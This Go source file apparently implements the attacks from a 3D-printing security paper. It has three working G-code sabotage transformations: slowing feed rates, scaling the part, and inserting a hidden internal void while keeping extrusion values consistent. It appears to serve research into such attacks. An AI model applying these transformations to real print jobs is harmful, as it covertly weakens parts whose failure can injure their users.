package gcode

import (
	"fmt"
	"math"
)

// Attack is a malicious transformation of a benign G-code program, modeling
// the network-level attacker of the paper's threat model (Section IV) who
// modifies the G-code stream before it reaches the printer.
type Attack interface {
	// Apply returns a maliciously modified copy; the input is not mutated.
	Apply(p *Program) (*Program, error)
	// Name identifies the attack in reports ("Void", "Speed0.95", ...).
	Name() string
}

// SpeedAttack scales every feed rate (F word) by Factor, the Speed0.95
// attack of Table I [12]: printing 5% slower subtly weakens layer bonding
// while producing a geometrically identical object.
type SpeedAttack struct {
	Factor float64
}

var _ Attack = (*SpeedAttack)(nil)

// Name implements Attack.
func (a *SpeedAttack) Name() string { return fmt.Sprintf("Speed%.2f", a.Factor) }

// Apply implements Attack.
func (a *SpeedAttack) Apply(p *Program) (*Program, error) {
	if a.Factor <= 0 {
		return nil, fmt.Errorf("gcode: speed factor must be positive, got %v", a.Factor)
	}
	out := p.Clone()
	for i := range out.Commands {
		c := &out.Commands[i]
		if !c.IsMove() {
			continue
		}
		if f, ok := c.Get('F'); ok {
			c.Set('F', f*a.Factor)
		}
	}
	return out, nil
}

// ScaleAttack shrinks or enlarges the object by scaling X/Y/Z coordinates
// and extrusion amounts, the Scale0.95 attack of Table I [25]. Feed rates
// are untouched, so the object prints faster but smaller.
type ScaleAttack struct {
	Factor float64
}

var _ Attack = (*ScaleAttack)(nil)

// Name implements Attack.
func (a *ScaleAttack) Name() string { return fmt.Sprintf("Scale%.2f", a.Factor) }

// Apply implements Attack.
func (a *ScaleAttack) Apply(p *Program) (*Program, error) {
	if a.Factor <= 0 {
		return nil, fmt.Errorf("gcode: scale factor must be positive, got %v", a.Factor)
	}
	out := p.Clone()
	for i := range out.Commands {
		c := &out.Commands[i]
		if !c.IsMove() && c.Code != "G92" {
			continue
		}
		for _, letter := range []byte{'X', 'Y', 'Z', 'E'} {
			if v, ok := c.Get(letter); ok {
				c.Set(letter, v*a.Factor)
			}
		}
	}
	return out, nil
}

// VoidAttack inserts an internal void [25]: wherever an extrusion move
// crosses the given cylinder (center, radius, Z range), the portion inside
// the cylinder is converted into a travel move, leaving a cavity that
// compromises structural integrity while the outer shell looks intact.
// Moves are split at the cylinder boundary, and the extrusion deficit is
// propagated to every later E word so the absolute E schedule stays
// consistent (the attacker rewrites the whole file, not single lines).
type VoidAttack struct {
	// CenterX, CenterY, Radius bound the void in the XY plane (mm).
	CenterX, CenterY, Radius float64
	// ZMin, ZMax bound the void vertically (mm).
	ZMin, ZMax float64
}

var _ Attack = (*VoidAttack)(nil)

// Name implements Attack.
func (a *VoidAttack) Name() string { return "Void" }

// segmentCircleInterval returns the parameter interval [t0, t1] of the
// segment (x0,y0)->(x1,y1) that lies inside the circle, clipped to [0, 1].
// ok is false when the segment misses the circle.
func (a *VoidAttack) segmentCircleInterval(x0, y0, x1, y1 float64) (t0, t1 float64, ok bool) {
	dx, dy := x1-x0, y1-y0
	fx, fy := x0-a.CenterX, y0-a.CenterY
	qa := dx*dx + dy*dy
	qb := 2 * (fx*dx + fy*dy)
	qc := fx*fx + fy*fy - a.Radius*a.Radius
	if qa == 0 {
		// Zero-length XY motion: inside iff the point is inside.
		if qc <= 0 {
			return 0, 1, true
		}
		return 0, 0, false
	}
	disc := qb*qb - 4*qa*qc
	if disc <= 0 {
		return 0, 0, false
	}
	sq := math.Sqrt(disc)
	t0 = (-qb - sq) / (2 * qa)
	t1 = (-qb + sq) / (2 * qa)
	t0 = math.Max(t0, 0)
	t1 = math.Min(t1, 1)
	if t0 >= t1 {
		return 0, 0, false
	}
	return t0, t1, true
}

// Apply implements Attack.
func (a *VoidAttack) Apply(p *Program) (*Program, error) {
	if a.Radius <= 0 {
		return nil, fmt.Errorf("gcode: void radius must be positive, got %v", a.Radius)
	}
	out := &Program{Commands: make([]Command, 0, len(p.Commands))}
	var x, y, z float64
	lastE := 0.0
	deficit := 0.0 // filament not extruded so far, subtracted from E words
	for i := range p.Commands {
		c := p.Commands[i].Clone()
		if c.Code == "G92" {
			if e, ok := c.Get('E'); ok {
				lastE = e
				deficit = 0 // E was redefined; restart the deficit ledger
			}
			out.Commands = append(out.Commands, c)
			continue
		}
		if !c.IsMove() {
			out.Commands = append(out.Commands, c)
			continue
		}
		x1 := c.GetDefault('X', x)
		y1 := c.GetDefault('Y', y)
		z1 := c.GetDefault('Z', z)
		e, hasE := c.Get('E')
		extruding := hasE && e > lastE
		inZ := z1 >= a.ZMin && z1 <= a.ZMax && z >= a.ZMin && z <= a.ZMax
		if !extruding || !inZ {
			if hasE {
				lastE = e
				c.Set('E', e-deficit)
			}
			out.Commands = append(out.Commands, c)
			x, y, z = x1, y1, z1
			continue
		}
		t0, t1, crosses := a.segmentCircleInterval(x, y, x1, y1)
		if !crosses {
			lastE = e
			c.Set('E', e-deficit)
			out.Commands = append(out.Commands, c)
			x, y, z = x1, y1, z1
			continue
		}
		// Split the extrusion at the void boundary. k is filament per unit
		// of path parameter.
		k := e - lastE
		feed, hasF := c.Get('F')
		emit := func(t float64, withE bool, eAbs float64) {
			nc := Command{Code: "G1"}
			nc.Set('X', x+(x1-x)*t)
			nc.Set('Y', y+(y1-y)*t)
			if z1 != z {
				nc.Set('Z', z+(z1-z)*t)
			}
			if withE {
				nc.Set('E', eAbs-deficit)
			}
			if hasF {
				nc.Set('F', feed)
			}
			out.Commands = append(out.Commands, nc)
		}
		if t0 > 0 {
			emit(t0, true, lastE+k*t0)
		}
		// The voided stretch becomes a travel move at the same feed.
		emit(t1, false, 0)
		deficit += k * (t1 - t0)
		if t1 < 1 {
			emit(1, true, e)
		}
		lastE = e
		x, y, z = x1, y1, z1
	}
	return out, nil
}
